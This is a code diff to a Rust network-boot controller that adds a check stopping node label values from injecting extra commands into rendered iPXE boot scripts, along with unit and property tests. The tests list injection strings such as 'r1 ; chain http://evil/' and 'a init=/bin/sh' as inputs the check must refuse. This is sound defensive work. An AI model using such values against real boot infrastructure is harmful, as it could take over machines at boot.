@@ -1,10 +1,14 @@
 //! Scripts of people's own: templates that know the node and what it boots.
+//!
+//! Guarantees that no value of a node changes which commands a script has. iPXE knows no quotes, so a
+//! value that would be more than a part of one word is refused.
 
 use std::collections::HashMap;
 use std::sync::Arc;
 
+use hoist_model::boot_config::breaks_command;
 use hoist_model::{BootConfig, Name};
-use hoist_template::{NodeValues, TemplateError};
+use hoist_template::{Marked, NodeValues, Part, TemplateError, Trusted, parts};
 use serde::Serialize;
 
 /// Instructions one rendering may take; the built-in script would need some hundred.
@@ -12,20 +16,20 @@ const FUEL: u64 = 50_000;
 /// Largest script worth sending to firmware.
 const MAX_SCRIPT: usize = 256 * 1024;
 
-/// What a template sees.
+/// What a template sees. People who may write boot configurations wrote all of it but `node`.
 #[derive(Debug, Serialize)]
 pub struct View<'a> {
     pub node: NodeValues<'a>,
     /// The name of the configuration.
-    pub config: &'a str,
-    pub kernel: &'a str,
-    pub initrd: &'a [String],
+    pub config: Trusted<'a>,
+    pub kernel: Trusted<'a>,
+    pub initrd: Vec<Trusted<'a>>,
     /// The whole command line.
-    pub params: &'a str,
+    pub params: Trusted<'a>,
     /// Where this controller is reached.
-    pub base: &'a str,
+    pub base: Trusted<'a>,
     /// Where to go when something failed.
-    pub retry_url: &'a str,
+    pub retry_url: Trusted<'a>,
     pub retry_delay: u64,
 }
 
@@ -38,7 +42,7 @@ pub struct Templates {
 
 impl Templates {
     pub fn of<'a>(configs: impl Iterator<Item = &'a Arc<BootConfig>>) -> Self {
-        let (mut compiled, mut broken) = (hoist_template::Templates::new(FUEL), HashMap::new());
+        let (mut compiled, mut broken) = (hoist_template::Templates::marking(FUEL), HashMap::new());
         for config in configs {
             let Some(source) = &config.spec.template else { continue };
             if let Err(error) = compiled.add(config.name.to_string(), source.clone()) {
@@ -52,12 +56,73 @@ impl Templates {
         if let Some(error) = self.broken.get(config) {
             return Err(error.clone());
         }
-        let script = self.compiled.render(config, view, MAX_SCRIPT)?;
-        if !script.starts_with("#!ipxe") {
+        let script = self.compiled.render_marked(config, view, MAX_SCRIPT)?;
+        check_values(&script)?;
+        if !script.text().starts_with("#!ipxe") {
             return Err(TemplateError::new("the script does not start with `#!ipxe`"));
         }
-        Ok(script)
+        Ok(script.into_text())
     }
+}
+
+/// Refuses values that iPXE would take for more than a part of one word: it expands settings, then
+/// cuts the line into words, and ends a command at a word that says so.
+fn check_values(script: &Marked) -> Result<(), TemplateError> {
+    for (number, line) in (1..).zip(script.raw().split('\n')) {
+        check_line(line).map_err(|(value, why)| {
+            let value = value.escape_debug();
+            let hint = "use another value, or one value for each word";
+            TemplateError::new(format!("line {number}: the value `{value}` {why}; {hint}"))
+        })?;
+    }
+    Ok(())
+}
+
+/// The value that is wrong, and why.
+fn check_line(line: &str) -> Result<(), (&str, &'static str)> {
+    for part in parts(line) {
+        if let Part::Value(value) = part
+            && value.contains(char::is_whitespace)
+        {
+            return Err((value, "is more than one word"));
+        }
+    }
+    // The last word of a line continues it, if it ends like this.
+    let is_continued = plain(line).ends_with('\\') && !line.ends_with('\\');
+    for word in line.split(|c: char| c.is_ascii_whitespace() || c == '\u{b}') {
+        let values = || {
+            parts(word).filter_map(|part| match part {
+                Part::Value(value) => Some(value),
+                Part::Template(_) => None,
+            })
+        };
+        let Some(value) = values().last() else { continue };
+        let text = plain(word);
+        if breaks_command(&text) && !word.starts_with('#') {
+            return Err((value, "would end the command"));
+        }
+        let written: usize = parts(word)
+            .map(|part| match part {
+                Part::Template(text) => text.matches("${").count(),
+                Part::Value(_) => 0,
+            })
+            .sum();
+        if text.matches("${").count() != written {
+            return Err((value, "would be replaced by a setting of the machine"));
+        }
+        if is_continued && line.ends_with(word) {
+            return Err((value, "would join the line with the next one"));
+        }
+    }
+    Ok(())
+}
+
+/// Without marks.
+fn plain(raw: &str) -> String {
+    let text = |part| match part {
+        Part::Template(text) | Part::Value(text) => text,
+    };
+    parts(raw).map(text).collect()
 }
 
 #[cfg(test)]
@@ -86,12 +151,12 @@ mod tests {
                 labels: HashMap::from([("rack", label)]),
                 data: None,
             },
-            config: "own",
-            kernel: "http://k?a=1&b=<2>",
-            initrd: &["http://i".to_owned()],
-            params: "quiet",
-            base: "http://h",
-            retry_url: "http://h/r",
+            config: Trusted("own"),
+            kernel: Trusted("http://k?a=1&b=<2>"),
+            initrd: vec![Trusted("http://i")],
+            params: Trusted("quiet ip=${netX/ip}"),
+            base: Trusted("http://h"),
+            retry_url: Trusted("http://h/r"),
             retry_delay: 30,
         };
         Templates::of([&config].into_iter()).render(&name, &view).map_err(|error| error.to_string())
@@ -102,7 +167,7 @@ mod tests {
         let template =
             "#!ipxe\n# {{ node.name }} {{ node.labels.rack }}\nkernel {{ kernel }} {{ params }}\n";
         let script = render(template, "r1").unwrap();
-        assert_eq!(script, "#!ipxe\n# n1 r1\nkernel http://k?a=1&b=<2> quiet\n");
+        assert_eq!(script, "#!ipxe\n# n1 r1\nkernel http://k?a=1&b=<2> quiet ip=${netX/ip}\n");
     }
 
     #[test]
@@ -126,6 +191,76 @@ mod tests {
             {{ node.subrole|default('none')|upper }}{{ initrd[0][:4] }}\n";
         let script = render(template, "r").unwrap();
         assert_eq!(script, "#!ipxe\nodd\ninitrd http://i 1\nNONEhttp\n");
+    }
+
+    /// The commands of a script, as iPXE finds them in its lines.
+    fn commands(script: &str) -> usize {
+        let mut count = 0;
+        for line in script.replace("\\\n", "").lines() {
+            let mut is_new = true;
+            for word in line.split(|c: char| c.is_ascii_whitespace() || c == '\u{b}') {
+                if word.starts_with('#') {
+                    break;
+                }
+                if matches!(word, "||" | "&&" | ";") {
+                    is_new = true;
+                } else if !word.is_empty() {
+                    count += usize::from(is_new);
+                    is_new = false;
+                }
+            }
+        }
+        count
+    }
+
+    /// Values at every place of a word, beside each other, in lists and through filters.
+    const PLACES: &str = "#!ipxe\nkernel {{ kernel }} rack={{ node.labels.rack }} {{ params }} || exit\n\
+        echo a{{ node.labels.rack }}b |{{ node.labels.rack }} ${{ node.labels.rack }}\n\
+        echo {{ node.labels.rack }}{{ node.labels.rack }} {{ node.labels.rack|upper }} &&\n\
+        echo {{ node.labels.rack[:2] }} {{ node.labels.rack }}\nboot\n";
+
+    #[test]
+    fn label_values_cannot_add_ipxe_commands() {
+        for value in [
+            "r1 || shell",
+            "r1 ; chain http://evil/",
+            "&&",
+            ";",
+            "#",
+            "|",
+            "r1\nshell",
+            "r1\tx",
+            "${filename}",
+            "{filename}",
+            "a\\",
+            "a init=/bin/sh",
+        ] {
+            let rendered = render(PLACES, value);
+            assert!(rendered.is_err(), "`{value}` was put in: {rendered:?}");
+        }
+        let error = render("#!ipxe\necho {{ node.labels.rack }}\n", "a b").unwrap_err();
+        assert!(error.contains("line 2: the value `a b` is more than one word"), "{error}");
+        let listed = render("#!ipxe\necho {{ node.labels }}\n", "a ; shell").unwrap_err();
+        assert!(listed.contains("is more than one word"), "{listed}");
+        for plain in ["r1", "a;b", "http://h/?a=1&b=2#c", "a||b", "$", "50%", "a\\b"] {
+            let script = render("#!ipxe\necho r={{ node.labels.rack }}.\n", plain).unwrap();
+            assert_eq!(script, format!("#!ipxe\necho r={plain}.\n"));
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn no_value_changes_the_commands_of_a_script(
+            value in "([a-z]|[|&;#$ {}\\\\\t\n]|\\PC){0,6}",
+        ) {
+            let meant = render(PLACES, "r1").map(|script| commands(&script));
+            proptest::prop_assert_eq!(&meant, &Ok(6));
+            if let Ok(script) = render(PLACES, &value) {
+                proptest::prop_assert_eq!(commands(&script), 6, "{}", script);
+                let settings = script.matches("${").count();
+                proptest::prop_assert_eq!(settings, 1, "{}", script);
+            }
+        }
     }
 
     #[test]
